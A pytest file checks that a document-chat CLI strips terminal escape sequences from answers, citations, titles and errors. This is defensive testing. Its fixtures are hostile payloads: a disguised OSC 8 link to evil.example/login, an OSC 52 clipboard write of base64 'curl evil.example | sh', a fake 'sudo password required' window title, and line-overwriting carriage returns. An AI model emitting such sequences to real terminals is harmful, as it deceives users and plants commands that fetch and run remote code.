"""What `docchat chat` writes to the terminal: no escape sequence from a document, an answer, a
title or a citation reaches it raw, however the stream cuts the text into pieces."""

from __future__ import annotations

import pytest

from docchat.cli.terminal import Session
from docchat.cli.terminal_backends import Listed, Outcome, Said
from docchat.domain import Citation, Grounding, SentenceCheck
from docchat.errors import DocchatError
from docchat.text import for_terminal

ESC, BEL = "\x1b", "\x07"
# A hyperlink whose text says one thing and whose target is another (OSC 8).
HYPERLINK = f"{ESC}]8;;https://evil.example/login{BEL}the trust deed{ESC}]8;;{BEL}"
# Writes "curl evil.example | sh" to the clipboard (OSC 52), base64-encoded.
CLIPBOARD = f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=={BEL}"
RED = f"{ESC}[31m"
RETITLE = f"{ESC}]0;sudo password required{BEL}"
# The C1 forms: CSI and OSC as single characters.
C1_CSI, C1_OSC = "\x9b", "\x9d"


def assert_harmless(written: str) -> None:
    controls = [ch for ch in written if (ord(ch) < 0x20 and ch not in "\n\t") or 0x7F <= ord(ch) < 0xA0]
    assert controls == [], written


@pytest.mark.parametrize("text", [HYPERLINK, CLIPBOARD, RED + "PAID" + f"{ESC}[0m", RETITLE,
                                  f"{C1_OSC}52;c;Y3VybA=={BEL}", f"{C1_CSI}2J", "Determination\x08\x08\x08Date\x7f"])
def test_no_control_character_but_newline_and_tab_is_left(text):
    assert_harmless(for_terminal(text))


def test_an_escape_sequence_shows_as_the_plain_characters_after_its_esc():
    assert for_terminal(HYPERLINK) == "]8;;https://evil.example/loginthe trust deed]8;;"


def test_a_carriage_return_cannot_overwrite_the_line_before_it():
    assert for_terminal("Transfer to account 1234\rTransfer to account 9999") == \
        "Transfer to account 1234Transfer to account 9999"


def test_line_breaks_tabs_and_crlf_endings_read_as_before():
    assert for_terminal("Date:\t15th\r\nAmount:\t€4.2 million\n") == "Date:\t15th\nAmount:\t€4.2 million\n"


def test_ordinary_text_in_any_script_is_unchanged():
    text = "Die Frist läuft am 15. ab — 期限は15日です — 🗓️ [1]"
    assert for_terminal(text) == text


@pytest.mark.parametrize("cut", range(1, len(CLIPBOARD)))
def test_a_sequence_split_between_two_stream_pieces_is_disarmed_all_the_same(cut):
    pieces = [CLIPBOARD[:cut], CLIPBOARD[cut:]]

    written = "".join(for_terminal(piece) for piece in pieces)

    assert written == for_terminal(CLIPBOARD)
    assert_harmless(written)


class ScriptedAnswer:
    def __init__(self, pieces: list[str], citations: list[Citation]):
        self._pieces, self._citations = pieces, citations

    def __iter__(self):
        return iter(self._pieces)

    def end(self) -> Outcome:
        return Outcome("complete", self._citations, cited=self._citations)


class HostileBackend:
    """Answers, titles and citations carrying escape sequences, as a poisoned document would
    make them."""

    stateless = False

    def __init__(self):
        self.conversation_id = None
        self.citation = Citation(number=1, document=f"trust-deed{RED}.pdf", where=f"page 4{RETITLE}",
                                 text=f"The Determination Date is the 15th.{CLIPBOARD}", page=4)

    def ask(self, question: str) -> ScriptedAnswer:
        self.conversation_id = "c0ffee00-1111-2222-3333-444455556666"
        # The clipboard write cut in the middle of its ESC ] introducer, and after its payload.
        pieces = ["The Determination Date is the 15th. ", CLIPBOARD[:1], CLIPBOARD[1:12], CLIPBOARD[12:],
                  f"See {HYPERLINK}.", "\rPAID IN FULL"]
        return ScriptedAnswer(pieces, [self.citation])

    def new_conversation(self) -> None:
        self.conversation_id = None

    def conversations(self) -> list[Listed]:
        return [Listed("c0ffee00-1111-2222-3333-444455556666", f"Harbour Trust{RETITLE}")]

    def open(self, prefix: str) -> tuple[str, list[Said]]:
        self.conversation_id = "c0ffee00-1111-2222-3333-444455556666"
        return f"Harbour Trust{RETITLE}", [Said("user", "When is the Determination Date?", "complete"),
                                            Said("assistant", f"The 15th.{HYPERLINK}", "complete", [self.citation])]

    def export(self, format: str) -> bytes:
        raise DocchatError(f"cannot export “Harbour Trust{CLIPBOARD}”")

    def close(self) -> None:
        pass


def _chat(lines: list[str], capsys) -> tuple[str, str]:
    typed = iter(lines)

    def read_line() -> str:
        try:
            return next(typed)
        except StopIteration:
            raise EOFError from None

    Session(HostileBackend(), read_line).run()
    captured = capsys.readouterr()
    return captured.out, captured.err


def test_a_streamed_answer_its_citations_and_sources_reach_the_terminal_disarmed(capsys):
    out, err = _chat(["When is the Determination Date?", "/sources"], capsys)

    assert_harmless(out)
    assert "The Determination Date is the 15th. ]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==" in out
    assert "See ]8;;https://evil.example/loginthe trust deed]8;;.PAID IN FULL" in out
    assert "[1] trust-deed[31m.pdf p.4" in out
    assert "[1] trust-deed[31m.pdf, page 4]0;sudo password required" in out


def test_titles_and_opened_messages_reach_the_terminal_disarmed(capsys):
    out, err = _chat(["/list", "/open c0ffee00"], capsys)

    assert_harmless(out)
    assert "c0ffee00  Harbour Trust]0;sudo password required" in out
    assert "docchat: The 15th.]8;;https://evil.example/loginthe trust deed]8;;" in out


def test_an_error_quoting_a_title_reaches_the_terminal_disarmed(capsys):
    out, err = _chat(["/open c0ffee00", "/export md harbour.md"], capsys)

    assert_harmless(err)
    assert "docchat: cannot export “Harbour Trust]52;c;" in err


class CheckedBackend(HostileBackend):
    """An answer that cites one of two passages given, with a sentence the check marked."""

    def ask(self, question: str) -> ScriptedAnswer:
        given = [self.citation, Citation(number=2, document="lease.pdf", where="page 2", text="Rent.", page=2)]
        check = Grounding(cited=(1,), sentences=(
            SentenceCheck(f"The Trustee sells the houseboat{RED} [1].", (1,), supported=False),))
        answer = ScriptedAnswer(["The Trustee sells the houseboat [1]."], given)
        answer.end = lambda: Outcome("complete", given, cited=[self.citation], check=check)
        return answer


def test_the_terminal_names_the_cited_sources_counts_the_others_and_marks_a_sentence_disarmed(capsys):
    typed = iter(["Who sells the houseboat?"])

    def read_line() -> str:
        try:
            return next(typed)
        except StopIteration:
            raise EOFError from None

    Session(CheckedBackend(), read_line).run()
    out = capsys.readouterr().out

    assert_harmless(out)
    assert "Sources: [1] trust-deed[31m.pdf p.4" in out
    assert "(also given to the model: 1; /sources lists them)" in out
    assert "  ! “The Trustee sells the houseboat [31m [1].”: not found in [1]" in out
